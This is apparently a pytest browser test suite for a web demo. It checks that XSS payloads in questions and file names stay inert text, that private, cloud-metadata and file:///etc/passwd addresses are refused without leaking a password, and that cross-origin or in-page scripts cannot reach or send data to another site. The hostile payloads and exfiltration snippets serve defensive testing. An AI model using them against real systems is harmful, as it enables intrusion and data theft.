"""What strangers try on the demo, in a real browser: their words, their files, their pages."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from demo_page import Page
from demo_server import Server, until

pytestmark = pytest.mark.slow

SCRIPTS = (
    "<img src=x onerror=window.pwned=1>",
    "<script>window.pwned=1</script>",
    '"><svg onload=window.pwned=1>',
    "${window.pwned=1} {{constructor.constructor('window.pwned=1')()}}",
    "[cat](javascript:window.pwned=1)",
)


@pytest.mark.parametrize("tries", [SCRIPTS])
def test_a_script_in_a_question_is_text(page: Page, tries: tuple[str, ...]) -> None:
    for text in tries:
        page.ask(text)
    said = page.js(
        "return [...document.querySelectorAll('[data-testid=question]')].map((q) => q.textContent)"
    )
    assert said == list(tries)
    inside = "[data-testid=question] *, [data-testid=answer] :is(script, svg, a, [onerror])"
    assert not page.js("return document.querySelector(arguments[0])", inside)
    assert page.js("return window.pwned ?? null") is None


def test_a_script_in_the_name_of_a_file_is_text(page: Page, tmp_path: Path) -> None:
    (hostile := tmp_path / "<img src=x onerror=window.pwned=1>.mp4").write_bytes(b"no video")
    page.choose("#source", "Your clip")
    page.find("#clip-file").send_keys(str(hostile))
    page.notice("no video")
    (tmp_path / "<svg onload=window.pwned=1>.vismem").write_bytes(b"no memory" * 1000)
    page.find("#memory-file").send_keys(str(next(tmp_path.glob("*.vismem"))))
    page.notice("no archive")
    assert page.js("return window.pwned ?? null") is None
    assert page.state["live"]["source"] == "gallery", "it goes on with what it had"
    logged = page.driver.get_log("browser")
    assert len(logged) == 2 and all("400" in entry["message"] for entry in logged)


def test_private_addresses_are_refused_and_no_secret_is_told(page: Page, server: Server) -> None:
    page.choose("#source", "Camera")
    for url, said in (
        (f"http://me:hunter2@127.0.0.1:{server.port}/?key=hunter2", "not a public address"),
        ("rtsp://me:hunter2@192.168.0.10/live", "not a public address"),
        ("http://[::ffff:10.0.0.1]/", "not a public address"),
        ("http://169.254.169.254/latest/meta-data", "not a public address"),
        ("http://0x7f.1/", "not a public address"),
        ("http://localhost/", "not a public address"),
        ("file:///etc/passwd", "is no address that can be opened"),
        ("/etc/passwd", "is no address that can be opened"),
    ):
        page.js("window.vismem.say('')")
        page.fill("#address", url)
        page.click("#connect")
        assert "hunter2" not in page.notice(said), url
    assert page.state["live"]["source"] == "gallery", "what was watched goes on"
    assert "hunter2" not in server.log


@pytest.fixture
def stranger() -> Iterator[tuple[str, list[str]]]:
    """A site of somebody else, and what it was asked."""
    asked: list[str] = []

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"<link rel=icon href=data:,><p>nice to meet you")

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Site) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{site.server_port}/", asked
        site.shutdown()


def drained(page: Page) -> str:
    """What the console says, which is then empty; so is the list of what was asked for."""
    page.driver.get_log("performance")
    return "\n".join(entry["message"] for entry in page.driver.get_log("browser"))


def test_a_page_of_another_origin_gets_nothing(
    opened: Callable[..., Page], server: Server, stranger: tuple[str, list[str]]
) -> None:
    victim = opened().plays()
    token, (folder,) = victim.token, server.visits
    evil = Page(victim.driver, stranger[0])
    # Even with a token, which it has no way to learn.
    live = f"ws://127.0.0.1:{server.port}/visit/{token}/live"
    got = victim.driver.execute_async_script(
        """
        const [live, done] = arguments, got = [], socket = new WebSocket(live);
        socket.onmessage = () => got.push("a message");
        socket.onclose = () => done(got);
        """,
        live,
    )
    assert got == []
    evil.driver.execute_async_script(
        """
        const [home, token, done] = arguments, ask = {mode: "no-cors", method: "POST", body: "{}"};
        Promise.allSettled([
            fetch(home + "gradio_api/queue/join", ask),
            fetch(home + "login", ask),
            fetch(home + `visit/${token}/clip`, {...ask, method: "PUT", mode: "cors"}),
            fetch(home + `visit/${token}/memory`),
        ]).then((all) => done(all.map((one) => one.status)));
        """,
        server.url,
        token,
    )
    reads = evil.status(f"{server.url}config")
    assert reads == 0, "it cannot read an answer either"
    frame = "Object.assign(document.createElement('iframe'), {src: arguments[0]})"
    evil.js(f"document.body.append({frame})", server.url)
    said = until(
        lambda: (text := drained(evil)) and "frame-ancestors" in text and text, "a refusal"
    )
    assert "frame-ancestors" in said
    assert server.visits == [folder], "it began no visit"
    evil.close()
    victim.front().until("window.vismem.page.connected", "nothing happened to the visitor")
    drained(victim)


def test_what_runs_in_the_page_can_tell_nobody(page: Page, stranger: tuple[str, list[str]]) -> None:
    site, asked = stranger
    page.driver.execute_async_script(
        """
        const [site, done] = arguments, socket = new WebSocket(site.replace("http", "ws"));
        const image = new Image(), form = document.createElement("form");
        navigator.sendBeacon(site + "beacon", "secret");
        const closed = new Promise((go) => socket.onclose = socket.onerror = go);
        const broken = new Promise((go) => { image.onerror = image.onload = go; });
        image.src = site + "image";
        form.action = site + "form";
        document.body.append(form);
        form.submit();
        Promise.allSettled([fetch(site + "fetch"), closed, broken]).then(() => done());
        """,
        site,
    )
    drained(page)
    assert asked == []
    page.until("window.vismem.page.connected", "it is still the same page")
